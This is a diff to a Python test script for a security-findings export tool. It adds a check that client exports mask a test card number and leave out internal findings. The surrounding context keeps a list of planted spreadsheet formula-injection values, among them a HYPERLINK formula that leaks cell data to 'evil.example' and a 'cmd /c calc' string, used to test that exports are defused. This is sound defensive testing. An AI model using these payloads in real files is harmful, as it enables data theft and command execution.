@@ -16,6 +16,9 @@ SARIF: validated against the official SARIF 2.1.0 schema, shipped in tests/data 
 tests/data/README.md), with python3-jsonschema; a rule and a result per finding, levels from the
 severities.
 
+For the client (--audience client): no internal finding, and a card number masked (shown
+with --no-mask), in CSV, JSON and SARIF.
+
 XLSX: refused on a terminal (a pseudo-terminal as standard output: exit 2), not refused on a
 pipe.
 
@@ -41,6 +44,7 @@ from commplan_test import Yaml12Loader, fail, report
 BOM = b"\xef\xbb\xbf"
 EXAMPLES = ["datacentre-assessment.yaml", "penetration-test.json", "software-delivery.zh.yaml"]
 HEADERS = {"en": ["ID", "Title", "Severity", "Status"], "zh": ["编号", "问题", "风险等级", "状态"]}
+CARD = "4111 1111 1111 1111"
 PLANTED = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "-2+3", "@SUM(1)",
            "\tcmd /c calc", "+1"]
 
@@ -135,6 +139,10 @@ def planted_project(source, folder):
         "retest": {"date": "2027-05-13", "result": "partial", "note": "Reflected, not stored"},
         "fingerprint": "f00d", "evidence": "Line one\nline \"two\", with a comma"})
     data["findings"].append({"id": "X-10", "title": "Found later", "found": "2027-05-14"})
+    data["findings"].append({"id": "X-11", "title": "Card in a log", "found": "2027-05-12",
+                             "evidence": f"The log shows {CARD} in clear."})
+    data["findings"].append({"id": "X-12", "title": "Ours only", "found": "2027-05-12",
+                             "internal": True})
     path = os.path.join(folder, "planted.json")
     with open(path, "w", encoding="utf-8") as f:
         json.dump(data, f, ensure_ascii=False)
@@ -213,6 +221,19 @@ def check_sarif(binary, source, path):
         fail("sarif: levels of medium and low findings")
 
 
+def check_client(binary, path):
+    """For the client: no internal finding, sensitive data masked unless --no-mask."""
+    for fmt in ("csv", "json", "sarif"):
+        args = ["--date", "2027-05-14", "--format", fmt]
+        team = export(binary, path, *args).stdout.decode()
+        client = export(binary, path, *args, "--audience", "client").stdout.decode()
+        shown = export(binary, path, *args, "--audience", "client", "--no-mask").stdout.decode()
+        if CARD not in team or CARD not in shown or CARD in client:
+            fail(f"{fmt}: the card number is not masked for the client alone")
+        if "X-12" not in team or "X-12" in client:
+            fail(f"{fmt}: the internal finding X-12 is not left out for the client alone")
+
+
 def check_xlsx_terminal(binary, path):
     main, child = pty.openpty()
     try:
@@ -238,6 +259,7 @@ def main():
         path = planted_project(source, folder)
         check_planted(binary, path)
         check_sarif(binary, source, path)
+        check_client(binary, path)
         check_xlsx_terminal(binary, path)
     finally:
         shutil.rmtree(folder)
